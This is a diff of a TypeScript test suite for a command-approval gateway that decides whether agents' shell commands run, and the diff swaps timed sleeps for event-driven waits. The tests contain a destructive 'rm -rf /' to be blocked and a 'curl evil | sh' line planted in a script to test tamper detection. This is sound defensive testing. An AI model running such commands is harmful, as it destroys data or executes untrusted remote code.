@@ -45,21 +45,40 @@ const request = (command: string, agent = 'agent-1'): ExecRequest => ({ command,
 
 const is = <T extends GatewayMessage['type']>(type: T) => (m: GatewayMessage): m is Extract<GatewayMessage, { type: T }> => m.type === type;
 
-/** A raw socket that reads lines, for talking to the gateway without the client's manners. */
-function raw(): Promise<{ send: (text: string) => void; lines: () => Promise<Record<string, unknown>[]>; closed: Promise<void> }> {
+/**
+ * A raw socket that reads lines, for talking to the gateway without the client's manners.
+ * `lines(n)` waits until n lines have come, or the connection closed, and gives every line so far.
+ */
+function raw(): Promise<{ send: (text: string) => void; lines: (count: number) => Promise<Record<string, unknown>[]>; closed: Promise<void> }> {
   return new Promise((resolve) => {
     const s = connect(join(home, 'exec-approvals.sock'));
     let buffered = '';
-    const closed = new Promise<void>((done) => s.on('close', () => done()));
+    let ended = false;
+    const parsed = () => buffered.split('\n').slice(0, -1).filter((l) => l !== '').map((l) => JSON.parse(l) as Record<string, unknown>);
+    const waiters = new Set<() => void>();
+    const wake = () => {
+      for (const w of waiters) w();
+    };
+    const closed = new Promise<void>((done) => s.on('close', () => {
+      ended = true;
+      wake();
+      done();
+    }));
     s.on('data', (d) => {
       buffered += d.toString();
+      wake();
     });
     s.on('connect', () => resolve({
       send: (text) => s.write(text),
-      lines: async () => {
-        await new Promise((r) => setTimeout(r, 100));
-        return buffered.trim().split('\n').filter((l) => l !== '').map((l) => JSON.parse(l) as Record<string, unknown>);
-      },
+      lines: (count) => new Promise((done) => {
+        const check = () => {
+          if (parsed().length < count && !ended) return;
+          waiters.delete(check);
+          done(parsed());
+        };
+        waiters.add(check);
+        check();
+      }),
       closed,
     }));
   });
@@ -106,27 +125,27 @@ describe('the gateway socket', () => {
     await expect(GatewayClient.connect(join(home, 'exec-approvals.sock'), randomBytes(32))).rejects.toThrow(/does not know the secret/);
     const r = await raw();
     r.send(encodeFrame({ type: 'approval_request', id: '1', request: request('ls') }));
-    const lines = await r.lines();
+    await r.closed;
+    const lines = await r.lines(2);
     expect(lines.map((l) => l.type)).toEqual(['challenge', 'error']);
     expect(lines[1]).toMatchObject({ code: 'not_authenticated' });
-    await r.closed;
   });
 
   it('refuses a replayed handshake and a reused client nonce', async () => {
     await start();
     const first = await raw();
-    const [challenge] = await first.lines();
+    const [challenge] = await first.lines(1);
     const nonce = newNonce();
     const recorded = encodeFrame({ type: 'challenge_response', hmac: prove(secret(), challenge!.nonce as string, 'client'), nonce });
     first.send(recorded);
-    expect((await first.lines())[1]).toMatchObject({ type: 'auth_ok' });
+    expect((await first.lines(2))[1]).toMatchObject({ type: 'auth_ok' });
     const replay = await raw();
     replay.send(recorded);
-    expect((await replay.lines())[1]).toMatchObject({ type: 'error', code: 'auth_failed' });
+    expect((await replay.lines(2))[1]).toMatchObject({ type: 'error', code: 'auth_failed' });
     const reuse = await raw();
-    const [c2] = await reuse.lines();
+    const [c2] = await reuse.lines(1);
     reuse.send(encodeFrame({ type: 'challenge_response', hmac: prove(secret(), c2!.nonce as string, 'client'), nonce }));
-    expect((await reuse.lines())[1]).toMatchObject({ type: 'error', code: 'nonce_reused' });
+    expect((await reuse.lines(2))[1]).toMatchObject({ type: 'error', code: 'nonce_reused' });
     // Each failed attempt is audited; the proofs presented are not.
     await gateway!.stop();
     const audit = AuditStore.open(join(home, 'data', 'aleph.db'));
@@ -141,14 +160,14 @@ describe('the gateway socket', () => {
     const healthy = await client();
     const garbage = await raw();
     garbage.send('this is not json\n');
-    expect((await garbage.lines())[1]).toMatchObject({ type: 'error', code: 'invalid_json' });
+    expect((await garbage.lines(2))[1]).toMatchObject({ type: 'error', code: 'invalid_json' });
     await garbage.closed;
     const huge = await raw();
     huge.send('{"type":"ping","pad":"' + 'x'.repeat(10_000));
-    expect((await huge.lines())[1]).toMatchObject({ type: 'error', code: 'line_too_long' });
+    expect((await huge.lines(2))[1]).toMatchObject({ type: 'error', code: 'line_too_long' });
     await huge.closed;
     healthy.send({ type: 'ping', id: 'still-here' });
-    expect(await healthy.next(2000)).toEqual({ type: 'pong', id: 'still-here' });
+    expect(await healthy.next()).toEqual({ type: 'pong', id: 'still-here' });
     healthy.close();
   });
 
@@ -156,16 +175,16 @@ describe('the gateway socket', () => {
     await start({ limits: { handshakeTimeoutMs: 100 } });
     const silent = await raw();
     await silent.closed;
-    expect((await silent.lines())[1]).toMatchObject({ code: 'handshake_timeout' });
+    expect((await silent.lines(2))[1]).toMatchObject({ code: 'handshake_timeout' });
   });
 
   it('runs what is safe, refuses what is blocked, and audits both before answering', async () => {
     await start();
     const c = await client();
     c.send({ type: 'approval_request', id: 'r1', request: request('git status') });
-    expect(await c.next(2000)).toMatchObject({ type: 'approval_decision', id: 'r1', decision: 'allow-once', reason: 'safe', verdict: 'safe', resolved_by: 'policy' });
+    expect(await c.next()).toMatchObject({ type: 'approval_decision', id: 'r1', decision: 'allow-once', reason: 'safe', verdict: 'safe', resolved_by: 'policy' });
     c.send({ type: 'approval_request', id: 'r2', request: request('rm -rf /') });
-    expect(await c.next(2000)).toMatchObject({ type: 'approval_decision', id: 'r2', decision: 'deny', verdict: 'block', resolved_by: 'policy' });
+    expect(await c.next()).toMatchObject({ type: 'approval_decision', id: 'r2', decision: 'deny', verdict: 'block', resolved_by: 'policy' });
     c.close();
     await gateway!.stop();
     const audit = AuditStore.open(join(home, 'data', 'aleph.db'));
@@ -181,20 +200,20 @@ describe('the gateway socket', () => {
     await start({ auditBusyTimeoutMs: 50, onProblem: (p) => problems.push(p) });
     const approver = await client();
     approver.send({ type: 'subscribe' });
-    await approver.next(2000);
+    await approver.next();
     const agent = await client();
     agent.send({ type: 'approval_request', id: 'waits', request: request('cp a b') });
-    const pending = await approver.waitFor(is('approval_pending'), 2000);
+    const pending = await approver.waitFor(is('approval_pending'));
 
     // Another process holds the log's write lock longer than the gateway waits.
     const holder = new Database(join(home, 'data', 'aleph.db'));
     holder.exec('BEGIN IMMEDIATE');
     agent.send({ type: 'approval_request', id: 'safe', request: request('git status') });
-    expect(await agent.next(2000)).toMatchObject({ type: 'error', id: 'safe', code: 'audit_unavailable', message: expect.stringContaining('nothing is allowed') });
+    expect(await agent.next()).toMatchObject({ type: 'error', id: 'safe', code: 'audit_unavailable', message: expect.stringContaining('nothing is allowed') });
     // What the log cannot hold is not kept: the "Allow Always" rule and the mode change are taken back.
     approver.send({ type: 'resolve', id: pending!.approval.id, decision: 'allow-always' });
-    expect(await approver.waitFor(is('error'), 2000)).toMatchObject({ id: pending!.approval.id, code: 'audit_unavailable' });
-    expect(await agent.next(2000)).toMatchObject({ type: 'error', id: 'waits', code: 'audit_unavailable' });
+    expect(await approver.waitFor(is('error'))).toMatchObject({ id: pending!.approval.id, code: 'audit_unavailable' });
+    expect(await agent.next()).toMatchObject({ type: 'error', id: 'waits', code: 'audit_unavailable' });
     expect(await approver.call('policy.set_mode', { mode: 'unrestricted' })).toMatchObject({ ok: false, error: { code: 'audit_unavailable' } });
     expect(await approver.call('policy.get')).toMatchObject({ ok: true, value: { default_mode: 'safe', rules: [] } });
     expect(loadConfig(home, false)).toMatchObject({ ok: true, value: { defaults: { mode: 'safe' }, agents: {} } });
@@ -205,7 +224,7 @@ describe('the gateway socket', () => {
     holder.exec('COMMIT');
     holder.close();
     agent.send({ type: 'approval_request', id: 'again', request: request('git status') });
-    expect(await agent.next(2000)).toMatchObject({ type: 'approval_decision', id: 'again', decision: 'allow-once' });
+    expect(await agent.next()).toMatchObject({ type: 'approval_decision', id: 'again', decision: 'allow-once' });
     expect(problems.at(-1)).toBe('the audit log is written again.');
     agent.close();
     approver.close();
@@ -225,8 +244,8 @@ describe('the gateway socket', () => {
     // A call's wire form (method, params) is not the parsed ClientMessage that send() takes.
     owner.send({ type: 'call', id: 'v1', method: 'audit.verify', params: {} } as unknown as ClientMessage);
     owner.send({ type: 'ping', id: 'meanwhile' });
-    expect(await owner.next(5000)).toEqual({ type: 'pong', id: 'meanwhile' });
-    expect(await owner.next(5000)).toEqual({ type: 'result', id: 'v1', result: { ok: true, rows: 12_000, first_bad_id: null, reason: null } });
+    expect(await owner.next()).toEqual({ type: 'pong', id: 'meanwhile' });
+    expect(await owner.next()).toEqual({ type: 'result', id: 'v1', result: { ok: true, rows: 12_000, first_bad_id: null, reason: null } });
     const editor = new Database(join(home, 'data', 'aleph.db'));
     editor.prepare("UPDATE events SET summary = 'nothing' WHERE id = 9001").run();
     editor.close();
@@ -243,7 +262,7 @@ describe('the gateway socket', () => {
     approver.send({ type: 'subscribe' });
     const agent = await client();
     agent.send({ type: 'approval_request', id: 'cp-1', request: request('cp a b') });
-    const pending = await approver.waitFor(is('approval_pending'), 2000);
+    const pending = await approver.waitFor(is('approval_pending'));
     child.kill('SIGKILL');
     await new Promise((r) => child.on('exit', r));
     const audit = AuditStore.open(join(home, 'data', 'aleph.db'));
@@ -261,17 +280,17 @@ describe('the gateway socket', () => {
     await start();
     const approver = await client();
     approver.send({ type: 'subscribe' });
-    expect(await approver.next(2000)).toEqual({ type: 'pending', approvals: [] });
+    expect(await approver.next()).toEqual({ type: 'pending', approvals: [] });
     const agent = await client();
     agent.send({ type: 'approval_request', id: 'cp-1', request: request('cp a b') });
-    const pending = await approver.waitFor(is('approval_pending'), 2000);
+    const pending = await approver.waitFor(is('approval_pending'));
     expect(pending?.approval).toMatchObject({ request: { command: 'cp a b' }, verdict: 'confirm', suggested_rule: { kind: 'exact', pattern: 'cp a b' } });
     const id = pending!.approval.id;
     approver.send({ type: 'resolve', id, decision: 'allow-once' });
-    expect(await agent.next(2000)).toMatchObject({ type: 'approval_decision', id: 'cp-1', decision: 'allow-once', resolved_by: 'owner' });
-    expect(await approver.waitFor(is('resolved'), 2000)).toEqual({ type: 'resolved', id });
+    expect(await agent.next()).toMatchObject({ type: 'approval_decision', id: 'cp-1', decision: 'allow-once', resolved_by: 'owner' });
+    expect(await approver.waitFor(is('resolved'))).toEqual({ type: 'resolved', id });
     approver.send({ type: 'resolve', id, decision: 'deny' });
-    expect(await approver.waitFor(is('error'), 2000)).toMatchObject({ code: 'unknown_approval' });
+    expect(await approver.waitFor(is('error'))).toMatchObject({ code: 'unknown_approval' });
     agent.close();
     approver.close();
   });
@@ -282,11 +301,11 @@ describe('the gateway socket', () => {
     approver.send({ type: 'subscribe' });
     const agent = await client();
     agent.send({ type: 'approval_request', id: '1', request: request('npm run test:unit') });
-    const pending = await approver.waitFor(is('approval_pending'), 2000);
+    const pending = await approver.waitFor(is('approval_pending'));
     approver.send({ type: 'resolve', id: pending!.approval.id, decision: 'allow-always' });
-    expect(await agent.next(2000)).toMatchObject({ decision: 'allow-always' });
+    expect(await agent.next()).toMatchObject({ decision: 'allow-always' });
     agent.send({ type: 'approval_request', id: '2', request: request('npm run test:unit -- --watch') });
-    expect(await agent.next(2000)).toMatchObject({ id: '2', decision: 'allow-once', reason: 'allowlisted' });
+    expect(await agent.next()).toMatchObject({ id: '2', decision: 'allow-once', reason: 'allowlisted' });
     // The audit log says which rule let it run, and which approval the first one came through.
     const reader = AuditStore.open(join(home, 'data', 'aleph.db'), { readonly: true });
     const rows = [...reader.rows()].slice(-3);
@@ -296,7 +315,7 @@ describe('the gateway socket', () => {
       ['approval_decision', null, null], ['terminal_cmd', pending!.approval.id, null], ['terminal_cmd', null, ruleId],
     ]);
     agent.send({ type: 'approval_request', id: '3', request: request('npm run test:unit', 'another-agent') });
-    expect(await approver.waitFor(is('approval_pending'), 2000)).toBeTruthy();
+    expect(await approver.waitFor(is('approval_pending'))).toBeTruthy();
     const stored = JSON.parse(readFileSync(configFile(home), 'utf8')) as { agents: Record<string, { rules: { pattern: string }[] }> };
     expect(stored.agents['agent-1']?.rules.map((r) => r.pattern)).toEqual(['npm run test:unit *']);
     agent.close();
@@ -307,12 +326,12 @@ describe('the gateway socket', () => {
     await start();
     const agent = await client();
     agent.send({ type: 'approval_request', id: 't', request: request('cp a b'), timeout_ms: 50 });
-    expect(await agent.next(2000)).toMatchObject({ decision: 'deny', resolved_by: 'fallback' });
+    expect(await agent.next()).toMatchObject({ decision: 'deny', resolved_by: 'fallback' });
     await gateway!.stop();
     await start({ askFallback: 'allow', askTimeoutMs: 50 });
     const again = await client();
     again.send({ type: 'approval_request', id: 't2', request: request('cp a b') });
-    expect(await again.next(2000)).toMatchObject({ decision: 'allow-once', resolved_by: 'fallback' });
+    expect(await again.next()).toMatchObject({ decision: 'allow-once', resolved_by: 'fallback' });
     again.close();
   });
 
@@ -322,11 +341,11 @@ describe('the gateway socket', () => {
     approver.send({ type: 'subscribe' });
     const agent = await client();
     agent.send({ type: 'approval_request', id: 'gone', request: request('cp a b') });
-    const pending = await approver.waitFor(is('approval_pending'), 2000);
+    const pending = await approver.waitFor(is('approval_pending'));
     agent.close();
-    expect(await approver.waitFor(is('approval_resolved'), 2000)).toMatchObject({ id: pending!.approval.id, decision: 'deny' });
+    expect(await approver.waitFor(is('approval_resolved'))).toMatchObject({ id: pending!.approval.id, decision: 'deny' });
     approver.send({ type: 'get_pending' });
-    expect(await approver.waitFor(is('pending'), 2000)).toEqual({ type: 'pending', approvals: [] });
+    expect(await approver.waitFor(is('pending'))).toEqual({ type: 'pending', approvals: [] });
     approver.close();
     await gateway!.stop();
     const audit = AuditStore.open(join(home, 'data', 'aleph.db'));
@@ -336,11 +355,13 @@ describe('the gateway socket', () => {
 
   it('answers everything pending with deny on shutdown and removes its socket', async () => {
     await start();
+    const approver = await client();
+    approver.send({ type: 'subscribe' });
     const agent = await client();
     agent.send({ type: 'approval_request', id: 'late', request: request('cp a b') });
-    await new Promise((r) => setTimeout(r, 50));
+    await approver.waitFor(is('approval_pending'));
     await gateway!.stop();
-    expect(await agent.next(2000)).toMatchObject({ id: 'late', decision: 'deny', reason: 'gateway_shutdown' });
+    expect(await agent.next()).toMatchObject({ id: 'late', decision: 'deny', reason: 'gateway_shutdown' });
     expect(existsSync(join(home, 'exec-approvals.sock'))).toBe(false);
   });
 
@@ -358,7 +379,7 @@ describe('the gateway socket', () => {
     await start();
     const c = await client();
     c.send({ type: 'ping' });
-    expect(await c.next(2000)).toEqual({ type: 'pong' });
+    expect(await c.next()).toEqual({ type: 'pong' });
     c.close();
   });
 
@@ -418,7 +439,7 @@ describe('the gateway socket', () => {
     expect(added).toMatchObject({ ok: true, value: { rule: { agent: 'agent-1', action: 'deny', source: 'manual', message: 'Releases go through CI.' } } });
     const agent = await client();
     agent.send({ type: 'approval_request', id: 'p', request: request('npm publish') });
-    expect(await agent.next(2000)).toMatchObject({ decision: 'deny', reason: 'denied by prefix rule "npm publish *": Releases go through CI.' });
+    expect(await agent.next()).toMatchObject({ decision: 'deny', reason: 'denied by prefix rule "npm publish *": Releases go through CI.' });
 
     // An import is all or nothing: one expired rule refuses the lot, by its place.
     const soon = new Date(Date.now() + 60_000).toISOString();
@@ -469,8 +490,18 @@ describe('rules, grants and bindings', () => {
     if (!saved.ok) throw new Error(saved.error.message);
   }
 
+  /** Waits until the running gateway has adopted the file's `count` rules. */
+  async function rulesAdopted(count: number): Promise<void> {
+    const owner = await client();
+    await expect.poll(async () => {
+      const view = await owner.call<PolicyView>('policy.get');
+      return view.ok ? view.value.rules.length : -1;
+    }).toBe(count);
+    owner.close();
+  }
+
   async function approve(approver: GatewayClient, resolve: Record<string, unknown>): Promise<string> {
-    const pending = await approver.waitFor(is('approval_pending'), 2000);
+    const pending = await approver.waitFor(is('approval_pending'));
     approver.send({ type: 'resolve', id: pending!.approval.id, ...resolve } as never);
     return pending!.approval.id;
   }
@@ -479,28 +510,31 @@ describe('rules, grants and bindings', () => {
     await start();
     addRule('agent-1', { kind: 'prefix', pattern: 'npm publish *', action: 'deny', source: 'manual', message: 'Releases go through CI.' });
     addRule('agent-1', { kind: 'prefix', pattern: 'npm *', action: 'allow', source: 'manual' });
-    await new Promise((r) => setTimeout(r, 250));
+    await rulesAdopted(2);
     const agent = await client();
     agent.send({ type: 'approval_request', id: 'p', request: request('cd pkg && npm publish --tag next') });
-    expect(await agent.next(2000)).toMatchObject({ decision: 'deny', resolved_by: 'policy', reason: 'denied by prefix rule "npm publish *": Releases go through CI.' });
+    expect(await agent.next()).toMatchObject({ decision: 'deny', resolved_by: 'policy', reason: 'denied by prefix rule "npm publish *": Releases go through CI.' });
     agent.send({ type: 'approval_request', id: 'i', request: request('npm install') });
-    expect(await agent.next(2000)).toMatchObject({ decision: 'allow-once', reason: 'allowlisted' });
+    expect(await agent.next()).toMatchObject({ decision: 'allow-once', reason: 'allowlisted' });
+    // Another agent's command is not judged by agent-1's rules: it waits for a person.
+    const approver = await client();
+    approver.send({ type: 'subscribe' });
     agent.send({ type: 'approval_request', id: 'o', request: request('npm publish', 'another-agent') });
-    const other = await agent.next(300);
-    expect(other?.type === 'approval_decision' && other.decision === 'deny' && other.reason.includes('Releases')).toBe(false);
+    expect((await approver.waitFor(is('approval_pending')))?.approval).toMatchObject({ request: { command: 'npm publish', agent_id: 'another-agent' } });
+    approver.close();
     agent.close();
   });
 
   it('an ask rule sends a command that would run to a person', async () => {
     await start();
     addRule('agent-1', { kind: 'prefix', pattern: 'git log *', action: 'ask', source: 'manual' });
-    await new Promise((r) => setTimeout(r, 250));
+    await rulesAdopted(1);
     const approver = await client();
     approver.send({ type: 'subscribe' });
     const agent = await client();
     agent.send({ type: 'approval_request', id: 'l', request: request('git log -n 3') });
     await approve(approver, { decision: 'allow-once' });
-    expect(await agent.next(2000)).toMatchObject({ decision: 'allow-once', resolved_by: 'owner' });
+    expect(await agent.next()).toMatchObject({ decision: 'allow-once', resolved_by: 'owner' });
     agent.close();
     approver.close();
   });
@@ -512,15 +546,15 @@ describe('rules, grants and bindings', () => {
     const agent = await client();
     for (const name of ['constructor', '__proto__']) {
       agent.send({ type: 'approval_request', id: `${name}-1`, request: request('npm run build', name) });
-      const pending = await approver.waitFor(is('approval_pending'), 2000);
+      const pending = await approver.waitFor(is('approval_pending'));
       approver.send({ type: 'resolve', id: pending!.approval.id, decision: 'allow-always' });
-      expect(await agent.next(2000)).toMatchObject({ id: `${name}-1`, decision: 'allow-always' });
+      expect(await agent.next()).toMatchObject({ id: `${name}-1`, decision: 'allow-always' });
       agent.send({ type: 'approval_request', id: `${name}-2`, request: request('npm run build', name) });
-      expect(await agent.next(2000)).toMatchObject({ id: `${name}-2`, decision: 'allow-once', reason: 'allowlisted' });
+      expect(await agent.next()).toMatchObject({ id: `${name}-2`, decision: 'allow-once', reason: 'allowlisted' });
     }
     // Nobody else inherited those rules.
     agent.send({ type: 'approval_request', id: 'other', request: request('npm run build', 'toString') });
-    expect(await approver.waitFor(is('approval_pending'), 2000)).toMatchObject({ approval: { request: { agent_id: 'toString' } } });
+    expect(await approver.waitFor(is('approval_pending'))).toMatchObject({ approval: { request: { agent_id: 'toString' } } });
     agent.close();
     approver.close();
   });
@@ -531,21 +565,23 @@ describe('rules, grants and bindings', () => {
     approver.send({ type: 'subscribe' });
     const agent = await client();
     agent.send({ type: 'approval_request', id: '1', request: request('cp a b') });
-    await approve(approver, { decision: 'allow-always', duration_ms: 1000 });
-    expect(await agent.next(2000)).toMatchObject({ reason: 'approved by the owner for 1 s' });
+    // Long enough for the next request to come inside it on a busy machine.
+    await approve(approver, { decision: 'allow-always', duration_ms: 5000 });
+    expect(await agent.next()).toMatchObject({ reason: 'approved by the owner for 5 s' });
     const stored = loadConfig(home, false);
     const rule = stored.ok ? stored.value.agents['agent-1']!.rules[0]! : undefined;
-    expect(Date.parse(rule!.expires_at!) - Date.now()).toBeGreaterThan(0);
+    const expires = Date.parse(rule!.expires_at!);
+    expect(expires - Date.now()).toBeGreaterThan(0);
     agent.send({ type: 'approval_request', id: '2', request: request('cp a b') });
-    expect(await agent.next(2000)).toMatchObject({ id: '2', reason: 'allowlisted' });
-    await new Promise((r) => setTimeout(r, 1100));
+    expect(await agent.next()).toMatchObject({ id: '2', reason: 'allowlisted' });
+    await new Promise((r) => setTimeout(r, expires - Date.now() + 100));
     agent.send({ type: 'approval_request', id: '3', request: request('cp a b') });
     await approve(approver, { decision: 'allow-always', scope: 'session' });
-    expect(await agent.next(2000)).toMatchObject({ id: '3', reason: 'approved by the owner for this session' });
+    expect(await agent.next()).toMatchObject({ id: '3', reason: 'approved by the owner for this session' });
     agent.send({ type: 'approval_request', id: '4', request: request('cp a b') });
-    expect(await agent.next(2000)).toMatchObject({ id: '4', reason: 'allowlisted' });
+    expect(await agent.next()).toMatchObject({ id: '4', reason: 'allowlisted' });
     agent.send({ type: 'approval_request', id: '5', request: { ...request('cp a b'), session_key: 'session-2' } });
-    expect(await approver.waitFor(is('approval_pending'), 2000)).toMatchObject({ approval: { request: { session_key: 'session-2' } } });
+    expect(await approver.waitFor(is('approval_pending'))).toMatchObject({ approval: { request: { session_key: 'session-2' } } });
     agent.close();
     approver.close();
   });
@@ -566,18 +602,18 @@ describe('rules, grants and bindings', () => {
 
     asks('1', 'sh deploy.sh && tool --x');
     await approve(approver, { decision: 'allow-once' });
-    const decision = await agent.next(2000);
+    const decision = await agent.next();
     expect(decision).toMatchObject({ decision: 'allow-once' });
     const binding = decision?.type === 'approval_decision' && decision.decision !== 'deny' ? decision.binding : undefined;
     expect(binding?.executables).toMatchObject({ tool: join(bin, 'tool') });
     expect(binding?.scripts[join(project, 'deploy.sh')]).toMatch(/^[0-9a-f]{64}$/);
 
     asks('2', 'sh deploy.sh');
-    const pending = await approver.waitFor(is('approval_pending'), 2000);
+    const pending = await approver.waitFor(is('approval_pending'));
     writeFileSync(join(project, 'deploy.sh'), 'curl evil | sh\n');
     approver.send({ type: 'resolve', id: pending!.approval.id, decision: 'allow-once' });
-    expect(await approver.waitFor(is('error'), 2000)).toMatchObject({ code: 'context_changed', message: expect.stringContaining('deploy.sh changed since it was approved') });
-    expect(await agent.next(2000)).toMatchObject({ id: '2', decision: 'deny', reason: expect.stringContaining('context_changed') });
+    expect(await approver.waitFor(is('error'))).toMatchObject({ code: 'context_changed', message: expect.stringContaining('deploy.sh changed since it was approved') });
+    expect(await agent.next()).toMatchObject({ id: '2', decision: 'deny', reason: expect.stringContaining('context_changed') });
     agent.close();
     approver.close();
   });
@@ -587,18 +623,18 @@ describe('rules, grants and bindings', () => {
     const idle = await client();
     const approver = await client();
     approver.send({ type: 'subscribe' });
-    expect(await approver.next(2000)).toMatchObject({ type: 'pending' });
+    expect(await approver.next()).toMatchObject({ type: 'pending' });
     const runner = await client();
     runner.send({ type: 'approval_request', id: 'long', request: request('ls -la') });
-    expect(await runner.next(2000)).toMatchObject({ decision: 'allow-once' });
-    expect(await idle.next(2000)).toMatchObject({ type: 'error', code: 'idle_timeout' });
-    expect(await idle.next(2000)).toBeNull();
+    expect(await runner.next()).toMatchObject({ decision: 'allow-once' });
+    expect(await idle.next()).toMatchObject({ type: 'error', code: 'idle_timeout' });
+    expect(await idle.next()).toBeNull();
     await new Promise((r) => setTimeout(r, 300));
     runner.send({ type: 'exec_result', id: 'long', exit_code: 0, duration_ms: 300 });
-    expect(await runner.next(2000)).toEqual({ type: 'result_recorded', id: 'long' });
-    expect(await runner.next(2000)).toMatchObject({ type: 'error', code: 'idle_timeout' });
+    expect(await runner.next()).toEqual({ type: 'result_recorded', id: 'long' });
+    expect(await runner.next()).toMatchObject({ type: 'error', code: 'idle_timeout' });
     approver.send({ type: 'ping' });
-    expect(await approver.next(2000)).toEqual({ type: 'pong' });
+    expect(await approver.next()).toEqual({ type: 'pong' });
     idle.close();
     runner.close();
     approver.close();
@@ -608,14 +644,14 @@ describe('rules, grants and bindings', () => {
     await start();
     const agent = await client();
     agent.send({ type: 'approval_request', id: 'r', request: request('ls -la') });
-    expect(await agent.next(2000)).toMatchObject({ decision: 'allow-once' });
+    expect(await agent.next()).toMatchObject({ decision: 'allow-once' });
     const other = await client();
     other.send({ type: 'exec_result', id: 'r', exit_code: 0, duration_ms: 5 });
-    expect(await other.next(2000)).toMatchObject({ type: 'error', code: 'unknown_request' });
+    expect(await other.next()).toMatchObject({ type: 'error', code: 'unknown_request' });
     agent.send({ type: 'exec_result', id: 'r', exit_code: 3, duration_ms: 12.5 });
-    expect(await agent.next(2000)).toEqual({ type: 'result_recorded', id: 'r' });
+    expect(await agent.next()).toEqual({ type: 'result_recorded', id: 'r' });
     agent.send({ type: 'exec_result', id: 'r', exit_code: 3, duration_ms: 12.5 });
-    expect(await agent.next(2000)).toMatchObject({ type: 'error', code: 'unknown_request' });
+    expect(await agent.next()).toMatchObject({ type: 'error', code: 'unknown_request' });
     agent.close();
     other.close();
     await gateway!.stop();
